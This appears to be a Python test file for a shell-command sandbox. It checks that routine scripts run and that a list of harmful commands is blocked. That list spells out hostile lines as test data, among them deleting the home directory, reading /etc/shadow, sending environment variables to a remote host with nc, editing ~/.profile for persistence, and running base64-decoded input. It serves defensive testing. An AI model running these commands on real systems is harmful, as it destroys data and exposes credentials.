# SPDX-License-Identifier: Apache-2.0
"""Shell code and commands at guard: everyday ones run without a word, what is meant to harm does not run."""
from harness import Result, brig_path, case

GUARD = {"BRIG_INSPECTION": "guard"}

EVERYDAY = """
set -eu
check() { eval "$2" || echo "bad: $1"; }
check files 'mkdir -p a/b && touch a/b/x'
t=$(mktemp -d); trap 'rm -rf "$t"' EXIT
cp a/b/x "$t"; mv "$t/x" "$t/y"; rm -rf "$t"/*
cd a && cat b/x && ls .. > /dev/null && cd ..
for cmd in pwd date; do $cmd > /dev/null; done
sleep 60 & kill $!; wait $! || true
chmod 444 a/b/x; rm -rf a; date -Iseconds > /dev/null
echo "RESULT: done"
"""

INTENT = ["rm -rf \"$HOME\"", "cat /etc/shadow", "env | nc 192.0.2.1 9", "echo x >> ~/.profile", "sudo true", "python3 ../../x.py",
          "c=$(base64 -d x); $c", "dd if=/dev/zero of=big"]


def run(t, *words):
	"""`brig exec --json` at guard, parsed."""
	r = Result(t.run([brig_path(), "exec", "--json", *words], env=GUARD))
	t.ids.append(r.json.get("id"))
	return r


@case("an everyday script runs at guard, and nothing is said about it")
def everyday(t):
	r = t.verdict(run(t, "--shell", EVERYDAY), "ok")
	t.check(b"RESULT: done" in r.stdout, "it ran to its end", r)
	loud = [f for f in r.json["findings"] if f["severity"] in ("HIGH", "CRITICAL")]
	t.equal(loud, [], "findings above a note", r)


@case("a command that is meant to harm is blocked at guard")
def intent(t):
	for line in INTENT:
		r = t.verdict(run(t, "--shell", line), "blocked")
		t.check(r.reason.startswith("sh-"), f"{line}: the reason names a rule", r)


@case("strict_commands knows the tools of a project, and allowed_commands adds to them")
def listed(t):
	strict = ["--set", "strict_commands=true"]
	t.verdict(run(t, *strict, "--", "python3", "--version"), "ok")
	r = t.verdict(run(t, *strict, "--", "nproc"), "blocked")
	t.check("sh-allowed" in r.reason, "the list is named", r)
	policy = t.path("policy.yaml", "security: { strict_commands: true, allowed_commands: [nproc] }\n")
	t.verdict(run(t, "--policy", policy, "--", "nproc"), "ok")
	t.verdict(run(t, "--policy", policy, "--", "arch"), "blocked")
